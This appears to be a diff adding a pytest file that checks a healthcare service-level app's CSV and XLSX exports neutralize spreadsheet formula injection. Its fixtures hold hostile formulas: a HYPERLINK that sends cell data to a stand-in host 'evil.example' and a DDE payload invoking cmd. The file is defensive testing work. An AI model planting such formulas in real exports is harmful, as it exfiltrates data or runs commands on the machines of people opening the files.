@@ -1,0 +1,132 @@
+"""Exports never hand a spreadsheet a live formula (issue 6, section 6).
+
+A text cell that begins with =, +, -, @, a tab or a carriage return is a formula to Excel and LibreOffice
+(CSV injection, OWASP); every CSV and XLSX export prefixes such a cell with a single quote. Numbers, empty
+cells and ordinary text (ids, codes, ISO timestamps with their offset) come out unchanged.
+"""
+
+import csv
+import datetime
+import io
+
+import openpyxl
+import pytest
+
+from servicelevel.spreadsheet import csv_writer, safe_cell, write_xlsx
+
+from . import factories as f
+from .helpers import manage
+
+pytestmark = pytest.mark.django_db
+
+A = "SE2321000255-EXA"
+UNITS = (
+    "hsa_id;name;forvaltning;vardomrade;unit_kind;unit_type;booking_system;has_contact_card;"
+    "same_day_contact;provider;active\n"
+    f"{A};Exempelmottagningen A;Skånes universitetssjukhus;VO Exempel;VUE;mottagning;PASiS;ja;nej;;ja\n"
+)
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
+DANGEROUS = [HYPERLINK, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1+1"]
+
+
+@pytest.mark.parametrize("value", DANGEROUS)
+def test_a_text_cell_that_starts_a_formula_is_quoted(value):
+    assert safe_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "X1",
+        "SE2321000255-A1B2",
+        "2026-06-23T00:00:00+02:00",
+        "AV-2026-014",
+        "in_time",
+        "",
+        "Vårdcentralen = bäst",
+        "'=redan citerad",
+        -5,
+        -0.25,
+        0,
+        3,
+        None,
+    ],
+)
+def test_numbers_and_ordinary_text_are_unchanged(value):
+    assert safe_cell(value) is value
+
+
+def test_the_csv_writer_neutralizes_every_text_cell_and_leaves_numbers_alone():
+    stream = io.StringIO()
+    writer = csv_writer(stream)
+    writer.writerow(["a", "=1+1", -3, 2.5, "", "@x"])
+    writer.writerows([["-2", -2]])
+    rows = list(csv.reader(io.StringIO(stream.getvalue())))
+    assert rows == [["a", "'=1+1", "-3", "2.5", "", "'@x"], ["'-2", "-2"]]
+
+
+def test_the_xlsx_writer_writes_no_formula(tmp_path):
+    path = tmp_path / "lista.xlsx"
+    n = write_xlsx(
+        [["case_id", "antal", "andel"], [HYPERLINK, -4, 0.933], ["X1", 7, None]], path, title="Ärenden"
+    )
+    assert n == 2
+    book = openpyxl.load_workbook(path)
+    sheet = book.active
+    assert sheet.title == "Ärenden"
+    cells = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]
+    assert cells[0] == [("case_id", "s"), ("antal", "s"), ("andel", "s")]
+    assert cells[1] == [("'" + HYPERLINK, "s"), (-4, "n"), (0.933, "n")]
+    assert cells[2][:2] == [("X1", "s"), (7, "n")]
+    assert not any(t == "f" for row in cells for _, t in row)
+
+
+def import_cases(write_file, django_capture_on_commit_callbacks, case_ids):
+    with django_capture_on_commit_callbacks(execute=True):
+        assert manage("import_data", "units", write_file(UNITS, name="units.csv")).code == 0
+        writer_stream = io.StringIO()
+        w = csv.writer(writer_stream, lineterminator="\n")
+        w.writerow(["case_id", "unit_hsa_id", "service_code", "received_at"])
+        for case_id in case_ids:
+            w.writerow([case_id, A, "KONTAKT", "2026-10-07T08:00:00+02:00"])
+        ran = manage("import_data", "cases", write_file(writer_stream.getvalue(), name="cases.csv"))
+        assert ran.code == 0, ran.err
+
+
+def test_export_cases_quotes_a_case_id_that_is_a_formula(write_file, django_capture_on_commit_callbacks):
+    import_cases(write_file, django_capture_on_commit_callbacks, [HYPERLINK, "+46", "@X", "X1"])
+    ran = manage("export_cases", "--as-of", "2026-11-15")
+    assert ran.code == 0, ran.err
+    rows = {r["case_id"]: r for r in csv.DictReader(io.StringIO(ran.out))}
+    assert set(rows) == {"'" + HYPERLINK, "'+46", "'@X", "X1"}
+    # Ordinary data is as the spec shows it: ids verbatim, timestamps with their offset.
+    assert rows["X1"]["unit_hsa_id"] == A
+    assert rows["X1"]["received_at"] == "2026-10-07T08:00:00+02:00"
+    assert rows["X1"]["deadline"] == "2026-10-10T00:00:00+02:00"
+    assert rows["X1"]["outcome"] == "overdue"
+    assert not any(
+        value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows.values() for value in row.values()
+    )
+
+
+def test_export_compliance_csv_quotes_an_exemption_id_that_is_a_formula(tmp_path):
+    unit = f.CareUnitFactory(hsa_id=A)
+    f.ExemptionFactory(unit=unit, exemption_id="=cmd|'/c calc'!A0")
+    out = tmp_path / "c.csv"
+    as_of = datetime.date(2026, 11, 15).isoformat()
+    ran = manage("export_compliance", "--as-of", as_of, "--format", "csv", "--output", out)
+    assert ran.code == 0, ran.err
+    rows = list(csv.DictReader(out.open(encoding="utf-8")))
+    row = next(r for r in rows if r["requirement_code"] == "TB3-OPPEN-KALLELSE")
+    assert row["exemption_id"] == "'=cmd|'/c calc'!A0"
+    assert row["hsa_id"] == A
+
+
+def test_the_json_export_is_data_not_a_spreadsheet_and_stays_verbatim():
+    import json
+
+    unit = f.CareUnitFactory(hsa_id=A)
+    f.ExemptionFactory(unit=unit, exemption_id="=1+1")
+    ran = manage("export_compliance", "--as-of", "2026-11-15", "--format", "json")
+    doc = json.loads(ran.out)
+    assert doc["units"][0]["requirements"]["TB3-OPPEN-KALLELSE"]["exemption_id"] == "=1+1"
